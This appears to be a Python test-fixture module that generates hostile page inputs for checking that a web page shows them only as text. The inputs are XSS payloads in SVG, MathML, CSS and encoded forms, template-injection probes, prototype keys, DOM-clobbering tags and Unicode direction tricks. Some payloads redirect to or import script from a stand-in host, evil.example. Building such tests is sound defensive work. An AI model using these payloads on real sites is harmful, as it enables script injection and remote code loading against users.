"""More texts that a page may only show: names of prototypes, markup that clobbers names of the document, marks of writing
direction, SVG and MathML, CSS, encodings, templates. tests/web/test_page.py has the others."""

CODES = ["alert(1)", "window.executed=1", "top.location='//evil.example'", "import('//evil.example/x.js')"]

# Read from an object that has no such key, these are functions.
PROTOTYPES = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "isPrototypeOf", "__defineGetter__", "__lookupSetter__",
              "constructor.prototype", "__proto__.executed", "[object Object]", "undefined", "null", "NaN", "true", "0", "-1", "length", "then"]

DIRECTIONS = ["\u202egnp.exe", "AI \u202e\u2066Sport\u2069 \u2066", "\u2067right\u2069 left", "\u200f\u200eAI", "a\u202ab\u202cc", "\u061cAI", "AI\u200b", "A\u200dI", "\ufeffAI",
              "\u0410I", "A\u0301\u0302\u0303\u0304" * 8, "\u05d0\u05d1 AI \u05d2", "\u0639\u0631\u0628\u064a", "\U0001f468\u200d\U0001f469\u200d\U0001f467 AI", "\U000e0041\U000e0049", "\ufff9a\ufffab\ufffb",
              "\u2028AI\u2029", "\u0085AI", "\u00a0AI\u00a0", "\x7fAI", "\x1bAI[31m", "\x08AI", "%s%n%x", "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "{%debug%}", "@(1+1)", "[[${7*7}]]"]

# A form, an image or a link with such a name hides what a script looks for under it.
CLOBBERING = [f"<{tag} {attribute}={name}>" for tag, attribute in (("form", "id"), ("img", "name"), ("a", "id"))
              for name in ("main", "tabs", "notice", "getElementById", "querySelector", "body", "cookie", "location", "session", "token")]

SHAPES = ["<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload={}>#x\">", "<svg><set attributeName=href to=javascript:{}>",
          "<svg><a><animate attributeName=href values=javascript:{}></a></svg>", "<svg><foreignObject><iframe srcdoc='<script>{}</script>'>", "<math href=javascript:{}>x</math>",
          "<math><maction actiontype=statusline xlink:href=javascript:{}>x", "<style>*{{background:url(//evil.example/{})}}</style>", "</style><style>@import url(//evil.example);{}",
          "<p style=\"behavior:url(#x);width:expression({})\">", "<xss style=\"animation-name:x\" onanimationstart={}>", "<link rel=modulepreload href=//evil.example onload={}>",
          "+ADw-svg/onload+AD0-{}+AD4-", "\u0161\u0451cript\u0161\u0452{}", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "%253Cscript%253E{}", "\\x3cscript\\x3e{}", "&#60;script&#62;{}",
          "<scr<script>ipt>{}</scr</script>ipt>", "<IMG SRC=j&#X41vascript:{}>", "<x onpointerenter={} style=position:fixed;inset:0>", "<dialog open onclose={}>", "<button popovertarget=x>{}</button>",
          "<input type=hidden oncontentvisibilityautostatechange={}>", "<template shadowrootmode=open><script>{}</script></template>", "<portal src=javascript:{}>", "<embed src=javascript:{}>",
          "<object type=text/html data=javascript:{}>", "]]><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href=javascript:{}?>", "--><img src onerror={}><!--", "*/{}/*", "\n{}//",
          "\");{}//", "[x](javascript:{})"]

OTHER_PAYLOADS = PROTOTYPES + DIRECTIONS + CLOBBERING + [
    shape.replace("{{", "\0").replace("}}", "\1").replace("{}", code).replace("\0", "{").replace("\1", "}") for shape in SHAPES for code in CODES]
